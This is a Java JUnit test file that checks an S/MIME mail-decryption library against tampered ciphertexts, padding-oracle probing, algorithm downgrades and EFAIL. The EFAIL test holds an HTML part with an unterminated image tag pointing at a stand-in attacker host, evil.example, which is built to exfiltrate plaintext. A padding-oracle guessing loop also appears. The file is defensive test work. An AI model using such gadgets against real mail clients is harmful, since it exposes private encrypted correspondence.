// SPDX-License-Identifier: Apache-2.0
package org.valise.sepamail.smime;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashSet;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.stream.Stream;
import javax.crypto.Cipher;
import org.bouncycastle.asn1.ASN1OctetString;
import org.bouncycastle.asn1.DEROctetString;
import org.bouncycastle.asn1.DERSet;
import org.bouncycastle.asn1.cms.GCMParameters;
import org.bouncycastle.asn1.cms.KeyTransRecipientInfo;
import org.bouncycastle.asn1.cms.RecipientInfo;
import org.bouncycastle.asn1.nist.NISTObjectIdentifiers;
import org.bouncycastle.asn1.x509.AlgorithmIdentifier;
import org.bouncycastle.cms.CMSAlgorithm;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.valise.sepamail.missive.NominalMissive;

/** Statements B of what must be survived: what is encrypted, and was changed on the way or never was what it seems. */
class EncryptionStatementsTest {

    private static final NominalMissive MISSIVE = Bench.missive("x");
    private static final byte[] ENTITY = Forge.entity(new String(MISSIVE.octets(), StandardCharsets.UTF_8));
    private static final byte[] SIGNED =
            Forge.cms("signed-data", Forge.sign(ENTITY, true, "SHA256withRSA", Bench.SIGNER));
    private static final byte[] CLEAR =
            Forge.multipartSigned(ENTITY, Forge.sign(ENTITY, false, "SHA256withRSA", Bench.SIGNER));

    private static byte[] cbc(byte[] content) {
        return Forge.encrypt(content, CMSAlgorithm.AES256_CBC, Bench.RECIPIENT);
    }

    private static byte[] mail(byte[] structure) {
        return Forge.mail(TestPki.SENDER, Forge.cms("enveloped-data", structure));
    }

    private static Verdict<OpenedMissive> open(byte[] structure) {
        return Bench.opener().open(mail(structure));
    }

    private static void assertRejected(Verdict<OpenedMissive> verdict, Check check) {
        assertThat(verdict).isInstanceOf(Verdict.Rejected.class);
        assertThat(((Verdict.Rejected<OpenedMissive>) verdict).failed()).isEqualTo(check);
    }

    private static byte[] garbage(int length) {
        byte[] octets = new byte[length];
        new Random(7).nextBytes(octets);
        return octets;
    }

    private static byte[] wrapped(byte[] key) {
        try {
            Cipher cipher = Cipher.getInstance("RSA/ECB/PKCS1Padding");
            cipher.init(Cipher.ENCRYPT_MODE, Bench.RECIPIENT.certificate.getPublicKey());
            return cipher.doFinal(key);
        } catch (java.security.GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    /** What the verdict says, to whoever can see it. */
    private static String seen(Verdict<OpenedMissive> verdict) {
        assertThat(verdict).isInstanceOf(Verdict.Rejected.class);
        Verdict.Rejected<OpenedMissive> rejected = (Verdict.Rejected<OpenedMissive>) verdict;
        return rejected.failed() + rejected.reason() + rejected.checks() + rejected.deviations();
    }

    @Test
    void s14TextThatWasChangedThroughTheVector() {
        byte[] structure = cbc(SIGNED);
        int accepted = 0;
        for (int i = 0; i < 16; i++) {
            int index = i;
            Verdict<OpenedMissive> verdict = open(RawEncrypted.withAlgorithm(
                    structure,
                    algorithm -> new AlgorithmIdentifier(
                            algorithm.getAlgorithm(),
                            new DEROctetString(RawEncrypted.flip(
                                    ASN1OctetString.getInstance(algorithm.getParameters())
                                            .getOctets(),
                                    index)))));
            accepted += verdict instanceof Verdict.Accepted<OpenedMissive> ? 1 : 0;
        }
        // It changes "Content-Type: ap", of which nothing may be another.
        assertThat(accepted).isZero();
    }

    @ParameterizedTest
    @ValueSource(ints = {0, 4, 8, 12, 13, 14, 15})
    void s15ATagThatIsTooShort(int octets) {
        byte[] structure = Forge.encryptGcm(SIGNED, Bench.RECIPIENT);
        Verdict<OpenedMissive> verdict = open(
                RawEncrypted.authenticated(structure, key -> key, text -> text, tag -> Arrays.copyOf(tag, octets)));
        assertThat(verdict).isInstanceOf(Verdict.Rejected.class);
    }

    @Test
    void s15AnyOctetOfTagOrTextThatIsAnother() {
        byte[] structure = Forge.encryptGcm(SIGNED, Bench.RECIPIENT);
        assertThat(open(structure)).isInstanceOf(Verdict.Accepted.class);
        for (int i = 0; i < 16; i++) {
            int index = i;
            assertRejected(
                    open(RawEncrypted.authenticated(
                            structure, key -> key, text -> text, tag -> RawEncrypted.flip(tag, index))),
                    Check.DECRYPTION);
        }
        for (int i = 0; i < SIGNED.length; i += 61) {
            int index = i;
            assertRejected(
                    open(RawEncrypted.authenticated(
                            structure, key -> key, text -> RawEncrypted.flip(text, index), tag -> tag)),
                    Check.DECRYPTION);
        }
    }

    private static Stream<byte[]> brokenCbc(byte[] content) {
        byte[] structure = cbc(content);
        return Stream.of(
                // The key cannot be unwrapped, or is one of another length, or another one.
                RawEncrypted.withKey(structure, key -> RawEncrypted.flip(key, 100)),
                RawEncrypted.withKey(structure, key -> new byte[key.length]),
                RawEncrypted.withKey(structure, key -> new byte[3]),
                RawEncrypted.withKey(structure, key -> wrapped(new byte[16])),
                RawEncrypted.withKey(structure, key -> wrapped(new byte[32])),
                RawEncrypted.withKey(structure, key -> wrapped(new byte[0])),
                // The padding is wrong, or there is none.
                RawEncrypted.withText(structure, text -> RawEncrypted.flip(text, text.length - 17)),
                RawEncrypted.withText(structure, text -> RawEncrypted.flip(text, text.length - 32)),
                RawEncrypted.withText(structure, text -> RawEncrypted.flip(text, text.length - 1)),
                RawEncrypted.withText(structure, text -> Arrays.copyOf(text, text.length - 16)),
                RawEncrypted.withText(structure, text -> Arrays.copyOf(text, text.length - 1)),
                RawEncrypted.withText(structure, text -> Arrays.copyOf(text, 16)),
                RawEncrypted.withText(structure, text -> new byte[0]),
                // The content is none.
                RawEncrypted.withText(structure, text -> garbage(text.length)),
                cbc(garbage(2000)));
    }

    private static Stream<byte[]> brokenGcm(byte[] content) {
        byte[] structure = Forge.encryptGcm(content, Bench.RECIPIENT);
        return Stream.of(
                RawEncrypted.authenticated(structure, key -> RawEncrypted.flip(key, 100), text -> text, tag -> tag),
                RawEncrypted.authenticated(structure, key -> wrapped(new byte[16]), text -> text, tag -> tag),
                RawEncrypted.authenticated(structure, key -> key, text -> RawEncrypted.flip(text, 500), tag -> tag),
                RawEncrypted.authenticated(structure, key -> key, text -> text, tag -> RawEncrypted.flip(tag, 0)),
                RawEncrypted.authenticated(structure, key -> key, text -> Arrays.copyOf(text, 100), tag -> tag));
    }

    @Test
    void s16NobodyCanTellWhyItCouldNotBeDecrypted() {
        Set<String> all = new HashSet<>();
        for (byte[] content : List.of(SIGNED, CLEAR)) {
            Stream.concat(brokenCbc(content), brokenGcm(content)).forEach(broken -> all.add(seen(open(broken))));
        }
        assertThat(all).hasSize(1).allMatch(seen -> seen.startsWith("DECRYPTION"));
    }

    /** Beside its signature what is encrypted is told no more of: it is not what was signed, whatever the reason. */
    @Test
    void s16NorInTwoParts() {
        byte[] signature = Forge.sign(ENTITY, false, "SHA256withRSA", Bench.SIGNER);
        Set<String> all = new HashSet<>();
        MissiveOpener opener = Bench.opener().with(OpeningPolicy.strict().with(Profile.SEED_TWO_PART));
        Stream.concat(brokenCbc(ENTITY), brokenGcm(ENTITY))
                .forEach(broken -> all.add(seen(opener.open(twoParts(broken, signature)))));
        assertThat(all).hasSize(1);
        assertThat(opener.open(twoParts(cbc(ENTITY), signature))).isInstanceOf(Verdict.Accepted.class);
    }

    private static byte[] twoParts(byte[] structure, byte[] signature) {
        String mixed = new String(
                Forge.multipartSigned(Forge.cms("enveloped-data", structure), signature), StandardCharsets.ISO_8859_1);
        return Forge.mail(
                TestPki.SENDER,
                mixed.replaceFirst("multipart/signed; protocol=[^;]*; micalg=[^;]*;", "multipart/mixed;")
                        .getBytes(StandardCharsets.ISO_8859_1));
    }

    /**
     * Vaudenay's oracle: blocks that are added behind the whole of a genuine text are accepted, or not, by their padding, if
     * nobody looks at what stands behind the end of the content.
     */
    @ParameterizedTest
    @ValueSource(booleans = {true, false})
    void s16WhatIsAddedBehindTheContentTellsNothingOfItsPadding(boolean opaque) {
        byte[] structure = cbc(opaque ? SIGNED : CLEAR);
        byte[] genuine = RawEncrypted.ciphertext(structure);
        byte[] target = Arrays.copyOfRange(genuine, 160, 176);
        Set<String> all = new HashSet<>();
        for (int guess = 0; guess < 256; guess++) {
            byte[] block = garbage(16);
            block[15] = (byte) guess;
            byte[] longer = Forge.join(genuine, block, target);
            all.add(seen(open(RawEncrypted.withText(structure, text -> longer))));
        }
        assertThat(all).hasSize(1);
    }

    @Test
    void s17WhatWasAuthenticatedIsNotReadAsSomethingElse() {
        byte[] structure = Forge.encryptGcm(SIGNED, Bench.RECIPIENT);
        var data = RawEncrypted.authenticated(structure);
        var info = data.getAuthEncryptedContentInfo();
        byte[] nonce = GCMParameters.getInstance(
                        info.getContentEncryptionAlgorithm().getParameters())
                .getNonce();
        byte[] vector = Arrays.copyOf(nonce, 16);
        vector[15] = 2;
        ASN1OctetString text = info.getEncryptedContent();
        byte[] whole = Arrays.copyOf(text.getOctets(), text.getOctets().length / 16 * 16);
        assertRejected(
                open(RawEncrypted.encoded(
                        data.getRecipientInfos(),
                        new AlgorithmIdentifier(NISTObjectIdentifiers.id_aes256_CBC, new DEROctetString(vector)),
                        new DEROctetString(whole),
                        "DER")),
                Check.DECRYPTION);
        assertRejected(
                open(RawEncrypted.encoded(data.getRecipientInfos(), info.getContentEncryptionAlgorithm(), text, "DER")),
                Check.ALGORITHMS);
    }

    /** RFC 9709: only a policy keeps a content that is authenticated from being sent on as one that is not. */
    @Test
    void s17APolicyForGcmRefusesTheOtherCiphers() {
        MissiveOpener gcm = Bench.opener()
                .with(OpeningPolicy.strict()
                        .withCiphers(List.of(ContentCipher.AES_128_GCM, ContentCipher.AES_256_GCM)));
        byte[] one = mail(cbc(SIGNED));
        assertRejected(gcm.open(one), Check.ALGORITHMS);
        assertThat(Bench.opener().open(one)).isInstanceOf(Verdict.Accepted.class);
        assertThat(gcm.open(mail(Forge.encryptGcm(SIGNED, Bench.RECIPIENT)))).isInstanceOf(Verdict.Accepted.class);
    }

    @Test
    void onlyTheWaysToSignThatAreNamedAreAccepted() {
        OpeningPolicy policy = OpeningPolicy.strict().withSignatureSchemes(List.of(SignatureScheme.ECDSA_SHA256));
        MissiveOpener opener = Bench.opener().with(policy);
        assertRejected(opener.open(mail(cbc(SIGNED))), Check.ALGORITHMS);
        byte[] other = Forge.cms("signed-data", Forge.sign(ENTITY, true, "SHA256withECDSA", Bench.EC_SIGNER));
        assertThat(opener.open(mail(cbc(other)))).isInstanceOf(Verdict.Accepted.class);
    }

    /** What is not accepted costs no operation with a private key: else OAEP is as safe as PKCS #1 v1.5. */
    @Test
    void onlyTheWaysToEncryptTheKeyThatAreNamedAreAccepted() throws Exception {
        DecryptionKey both = Bench.RECIPIENT.decryptionKey();
        DecryptionKey curve = Bench.EC_RECIPIENT.decryptionKey();
        MissiveOpener opener = MissiveOpener.of(
                List.of(both, curve), TrustPolicy.of(List.of(Bench.AUTHORITY.certificate)), Bench.CLOCK);
        Recipient rsa = Recipient.of(Bench.RECIPIENT.certificate);
        Map<KeyTransport, byte[]> mails = Map.of(
                KeyTransport.RSA_PKCS1, sealed(rsa),
                KeyTransport.RSA_OAEP_SHA256, sealed(rsa.with(KeyTransport.RSA_OAEP_SHA256)),
                KeyTransport.ECDH_SHA256, sealed(Recipient.of(Bench.EC_RECIPIENT.certificate)));
        for (KeyTransport only : mails.keySet()) {
            MissiveOpener one = opener.with(OpeningPolicy.strict().withKeyTransports(List.of(only)));
            mails.forEach((transport, mail) -> {
                assertThat(opener.open(mail)).isInstanceOf(Verdict.Accepted.class);
                if (transport == only) {
                    assertThat(one.open(mail)).isInstanceOf(Verdict.Accepted.class);
                } else {
                    assertRejected(one.open(mail), Check.ALGORITHMS);
                }
            });
        }
    }

    @Test
    void s18WhatIsForAnotherKeyOnACurve() throws Exception {
        TestPki other = Bench.AUTHORITY.recipient(TestPki.ec(0), TestPki.RECEIVER);
        MissiveOpener opener = MissiveOpener.of(
                List.of(other.decryptionKey()), TrustPolicy.of(List.of(Bench.AUTHORITY.certificate)), Bench.CLOCK);
        assertRejected(opener.open(sealed(Recipient.of(Bench.EC_RECIPIENT.certificate))), Check.RECIPIENT);
        assertThat(opener.open(sealed(Recipient.of(other.certificate)))).isInstanceOf(Verdict.Accepted.class);
    }

    private static byte[] sealed(Recipient recipient) throws SealingException {
        return Bench.sealer().seal(MISSIVE, Bench.TO, recipient).octets();
    }

    @Test
    void s18APasswordIsNobody() throws Exception {
        var generator = new org.bouncycastle.cms.CMSEnvelopedDataGenerator();
        generator.addRecipientInfoGenerator(new org.bouncycastle.cms.jcajce.JcePasswordRecipientInfoGenerator(
                        CMSAlgorithm.AES256_CBC, "secret".toCharArray())
                .setProvider(new org.bouncycastle.jce.provider.BouncyCastleProvider()));
        byte[] structure = generator
                .generate(
                        new org.bouncycastle.cms.CMSProcessableByteArray(SIGNED),
                        new org.bouncycastle.cms.jcajce.JceCMSContentEncryptorBuilder(CMSAlgorithm.AES256_CBC)
                                .setProvider(new org.bouncycastle.jce.provider.BouncyCastleProvider())
                                .build())
                .getEncoded();
        assertRejected(open(structure), Check.RECIPIENT);
    }

    /** A signature within, and another one around the encryption, of somebody else. */
    @ParameterizedTest
    @ValueSource(booleans = {true, false})
    void s19AnInnerAndAnOuterSigner(boolean same) {
        byte[] encrypted = Forge.cms("enveloped-data", cbc(SIGNED));
        TestPki other = Bench.AUTHORITY.signer(TestPki.rsa(3), TestPki.SENDER);
        byte[] mail = Forge.mail(
                TestPki.SENDER,
                Forge.multipartSigned(
                        encrypted, Forge.sign(encrypted, false, "SHA256withRSA", same ? Bench.SIGNER : other)));
        assertRejected(Bench.opener().open(mail), Check.STRUCTURE);
        Verdict<OpenedMissive> lenient =
                Bench.opener().with(OpeningPolicy.lenient()).open(mail);
        if (same) {
            assertThat(lenient).isInstanceOf(Verdict.Accepted.class);
            assertThat(lenient.deviations()).contains("EXTRA_LAYER");
        } else {
            assertRejected(lenient, Check.SIGNATURE_FORM);
        }
    }

    /** EFAIL: what is encrypted beside other parts is not even decrypted. */
    @Test
    void s20WhatIsEncryptedBesideOthers() {
        String encrypted = new String(Forge.cms("enveloped-data", cbc(SIGNED)), StandardCharsets.US_ASCII);
        String html = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n";
        List<List<String>> all = List.of(
                List.of(html, encrypted, html), List.of(encrypted, html), List.of(html, encrypted), List.of(encrypted));
        for (List<String> parts : all) {
            StringBuilder mixed = new StringBuilder("Content-Type: multipart/mixed; boundary=B\r\n\r\n");
            parts.forEach(part -> mixed.append("--B\r\n").append(part).append("\r\n"));
            byte[] mail = Forge.mail(TestPki.SENDER, Forge.ascii(mixed + "--B--\r\n"));
            for (OpeningPolicy policy : List.of(OpeningPolicy.strict(), OpeningPolicy.legacy())) {
                Verdict<OpenedMissive> verdict = Bench.opener().with(policy).open(mail);
                assertRejected(verdict, Check.STRUCTURE);
                assertThat(verdict.checks()).extracting(CheckResult::check).doesNotContain(Check.RECIPIENT);
            }
        }
    }

    @ParameterizedTest
    @EnumSource(names = {"AES_128_CBC", "AES_256_CBC", "AES_128_GCM", "AES_256_GCM"})
    void s21NoTwoMailsHaveOneVectorOrKey(ContentCipher cipher) throws Exception {
        EntityEncrypter encrypter = EntityEncrypter.of(new SecureRandom()).with(cipher);
        byte[] one = structure(encrypter
                .encrypt(new byte[0], Recipient.of(Bench.RECIPIENT.certificate))
                .octets());
        byte[] other = structure(encrypter
                .encrypt(new byte[0], Recipient.of(Bench.RECIPIENT.certificate))
                .octets());
        assertThat(vector(one, cipher)).isNotEqualTo(vector(other, cipher));
        assertThat(key(one, cipher)).isNotEqualTo(key(other, cipher));
    }

    /** With ten thousand missives no key and no vector comes twice. */
    @Tag("slow")
    @ParameterizedTest
    @EnumSource(names = {"AES_128_CBC", "AES_128_GCM"})
    void s21KeysAndVectorsAreNew(ContentCipher cipher) throws Exception {
        Recorder random = new Recorder();
        Recipient recipient = Recipient.of(Bench.RECIPIENT.certificate);
        EntityEncrypter encrypter = EntityEncrypter.of(random).with(cipher);
        int count = 10_000;
        Set<String> vectors = new HashSet<>();
        Set<String> wrapped = new HashSet<>();
        for (int i = 0; i < count; i++) {
            byte[] octets = encrypter.encrypt(new byte[0], recipient).octets();
            byte[] structure = structure(octets);
            vectors.add(vector(structure, cipher));
            wrapped.add(key(structure, cipher));
        }
        assertThat(vectors).hasSize(count);
        assertThat(wrapped).hasSize(count);
        // Keys of 16 octets were drawn for each, and none is another's.
        assertThat(random.drawn).hasSizeGreaterThanOrEqualTo(count);
        assertThat(new HashSet<>(random.drawn)).hasSameSizeAs(random.drawn);
    }

    private static byte[] structure(byte[] entity) {
        String text = new String(entity, StandardCharsets.US_ASCII);
        return java.util.Base64.getMimeDecoder().decode(text.substring(text.indexOf("\r\n\r\n") + 4));
    }

    private static String vector(byte[] structure, ContentCipher cipher) {
        AlgorithmIdentifier algorithm = cipher.isAuthenticated()
                ? RawEncrypted.authenticated(structure)
                        .getAuthEncryptedContentInfo()
                        .getContentEncryptionAlgorithm()
                : RawEncrypted.enveloped(structure).getEncryptedContentInfo().getContentEncryptionAlgorithm();
        byte[] vector = cipher.isAuthenticated()
                ? GCMParameters.getInstance(algorithm.getParameters()).getNonce()
                : ASN1OctetString.getInstance(algorithm.getParameters()).getOctets();
        assertThat(vector).hasSize(cipher.isAuthenticated() ? 12 : 16);
        return HexFormat.of().formatHex(vector);
    }

    private static String key(byte[] structure, ContentCipher cipher) {
        var recipients = cipher.isAuthenticated()
                ? RawEncrypted.authenticated(structure).getRecipientInfos()
                : RawEncrypted.enveloped(structure).getRecipientInfos();
        KeyTransRecipientInfo info = (KeyTransRecipientInfo)
                RecipientInfo.getInstance(recipients.getObjectAt(0)).getInfo();
        return HexFormat.of().formatHex(info.getEncryptedKey().getOctets());
    }

    /** Remembers what was drawn of the length of keys. */
    private static final class Recorder extends SecureRandom {

        private static final long serialVersionUID = 1;

        @SuppressWarnings("serial") // never written
        private final List<String> drawn = new ArrayList<>();

        @Override
        public void nextBytes(byte[] octets) {
            super.nextBytes(octets);
            if (drawn != null && octets.length == 16) {
                drawn.add(HexFormat.of().formatHex(octets));
            }
        }
    }

    /** Several recipients, ours the last of them. */
    @Test
    void oursIsTheLastRecipient() {
        byte[] structure = cbc(SIGNED);
        TestPki other = Bench.AUTHORITY.recipient(TestPki.rsa(3), TestPki.RECEIVER);
        byte[] theirs = Forge.encrypt(SIGNED, CMSAlgorithm.AES256_CBC, other);
        var data = RawEncrypted.enveloped(structure);
        byte[] both = RawEncrypted.encoded(
                new DERSet(new org.bouncycastle.asn1.ASN1Encodable[] {
                    RawEncrypted.enveloped(theirs).getRecipientInfos().getObjectAt(0),
                    data.getRecipientInfos().getObjectAt(0)
                }),
                data.getEncryptedContentInfo().getContentEncryptionAlgorithm(),
                data.getEncryptedContentInfo().getEncryptedContent(),
                "DER");
        assertThat(open(both)).isInstanceOf(Verdict.Accepted.class);
    }
}
